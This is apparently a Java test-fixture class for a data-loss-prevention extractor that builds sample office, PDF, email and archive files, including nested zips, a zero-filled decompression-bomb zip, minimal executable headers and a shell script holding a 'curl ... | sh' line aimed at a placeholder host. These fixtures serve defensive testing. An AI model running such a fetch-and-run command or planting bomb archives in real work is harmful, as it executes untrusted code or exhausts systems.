package org.wardline.dlp.extract;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xslf.usermodel.XSLFTextBox;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/** Test fixtures built at test time with PDFBox, POI and java.util.zip (all already on the class path). */
public final class TestDocuments {

  private TestDocuments() {}

  public static byte[] pdf(String text, boolean encrypted) throws IOException {
    try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      PDPage page = new PDPage();
      doc.addPage(page);
      try (PDPageContentStream cs = new PDPageContentStream(doc, page)) {
        cs.beginText();
        cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
        cs.newLineAtOffset(72, 700);
        cs.showText(text);
        cs.endText();
      }
      if (encrypted) {
        StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-pw", "user-pw", new AccessPermission());
        policy.setEncryptionKeyLength(256);
        doc.protect(policy);
      }
      doc.save(out);
      return out.toByteArray();
    }
  }

  public static byte[] docx(String text) throws IOException {
    try (XWPFDocument doc = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      doc.createParagraph().createRun().setText(text);
      doc.write(out);
      return out.toByteArray();
    }
  }

  public static byte[] xlsx(String text) throws IOException {
    try (XSSFWorkbook wb = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      wb.createSheet("Sheet1").createRow(0).createCell(0).setCellValue(text);
      wb.write(out);
      return out.toByteArray();
    }
  }

  public static byte[] pptx(String text) throws IOException {
    try (XMLSlideShow show = new XMLSlideShow(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      XSLFTextBox box = show.createSlide().createTextBox();
      box.setText(text);
      show.write(out);
      return out.toByteArray();
    }
  }

  public static byte[] rtf(String text) {
    return ("{\\rtf1\\ansi{\\fonttbl\\f0\\fswiss Helvetica;}\\f0\\pard " + text + "\\par}").getBytes(StandardCharsets.US_ASCII);
  }

  public static byte[] html(String text) {
    return ("<!DOCTYPE html><html><head><title>note</title></head><body><p>" + text + "</p></body></html>")
        .getBytes(StandardCharsets.UTF_8);
  }

  public static byte[] eml(String text) {
    return ("From: clinic@example.org\r\nTo: pharmacy@example.org\r\nSubject: refill\r\n"
        + "Date: Mon, 1 Jan 2024 10:00:00 +0000\r\nMessage-ID: <1@example.org>\r\nMIME-Version: 1.0\r\n"
        + "Content-Type: text/plain; charset=UTF-8\r\n\r\n" + text + "\r\n").getBytes(StandardCharsets.UTF_8);
  }

  /** A zip of the given entries (name to content), in order. */
  public static byte[] zip(Map<String, byte[]> entries) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream z = new ZipOutputStream(out)) {
      for (Map.Entry<String, byte[]> e : entries.entrySet()) {
        z.putNextEntry(new ZipEntry(e.getKey()));
        z.write(e.getValue());
        z.closeEntry();
      }
    }
    return out.toByteArray();
  }

  public static byte[] zip(String name, byte[] content) throws IOException {
    Map<String, byte[]> m = new LinkedHashMap<>();
    m.put(name, content);
    return zip(m);
  }

  /** {@code content} wrapped in {@code levels} nested zips. */
  public static byte[] nestedZip(byte[] content, String innermostName, int levels) throws IOException {
    byte[] current = zip(innermostName, content);
    for (int i = 1; i < levels; i++) {
      current = zip("level" + i + ".zip", current);
    }
    return current;
  }

  /** A zip holding one entry of {@code size} zero bytes, deflated (1 GiB becomes about 4.5 MiB). */
  public static byte[] zerosZip(long size) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream z = new ZipOutputStream(out)) {
      z.setLevel(Deflater.BEST_SPEED);
      z.putNextEntry(new ZipEntry("zeros.bin"));
      byte[] zeros = new byte[1 << 20];
      for (long written = 0; written < size; written += zeros.length) {
        z.write(zeros, 0, (int) Math.min(zeros.length, size - written));
      }
      z.closeEntry();
    }
    return out.toByteArray();
  }

  /** A zip of many tiny entries. */
  public static byte[] manyEntriesZip(int count) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream z = new ZipOutputStream(out)) {
      for (int i = 0; i < count; i++) {
        z.putNextEntry(new ZipEntry("f" + i + ".txt"));
        z.write('x');
        z.closeEntry();
      }
    }
    return out.toByteArray();
  }

  /**
   * A zip whose entry carries the "encrypted" general-purpose flag (bit 0) in its local and central headers,
   * as traditional PKWARE or AES encryption sets it; the payload itself is not real ciphertext.
   */
  public static byte[] encryptedFlagZip(String name, byte[] content) throws IOException {
    byte[] zb = zip(name, content);
    for (int i = 0; i + 9 < zb.length; i++) {
      if (zb[i] == 'P' && zb[i + 1] == 'K' && zb[i + 2] == 3 && zb[i + 3] == 4) {
        zb[i + 6] |= 1;
      } else if (zb[i] == 'P' && zb[i + 1] == 'K' && zb[i + 2] == 1 && zb[i + 3] == 2) {
        zb[i + 8] |= 1;
      }
    }
    return zb;
  }

  /** A minimal PE (Windows executable) header: "MZ", e_lfanew, "PE\0\0", i386 machine. */
  public static byte[] peExecutable() {
    byte[] pe = new byte[512];
    pe[0] = 'M';
    pe[1] = 'Z';
    pe[0x3c] = (byte) 0x80;
    pe[0x80] = 'P';
    pe[0x81] = 'E';
    pe[0x84] = 0x4c;
    pe[0x85] = 0x01;
    return pe;
  }

  /** A minimal 64-bit little-endian ELF executable header. */
  public static byte[] elfExecutable() {
    byte[] elf = new byte[64];
    elf[0] = 0x7f;
    elf[1] = 'E';
    elf[2] = 'L';
    elf[3] = 'F';
    elf[4] = 2;
    elf[5] = 1;
    elf[6] = 1;
    elf[16] = 2;
    elf[18] = 0x3e;
    return elf;
  }

  /** A minimal 64-bit Mach-O executable header (magic 0xfeedfacf, little-endian). */
  public static byte[] machOExecutable() {
    byte[] m = new byte[64];
    m[0] = (byte) 0xcf;
    m[1] = (byte) 0xfa;
    m[2] = (byte) 0xed;
    m[3] = (byte) 0xfe;
    m[4] = 7;
    m[7] = 1;
    m[12] = 2;
    return m;
  }

  public static byte[] shellScript() {
    return "#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII);
  }

  public static byte[] truncated(byte[] doc, int keep) {
    return Arrays.copyOf(doc, keep);
  }
}
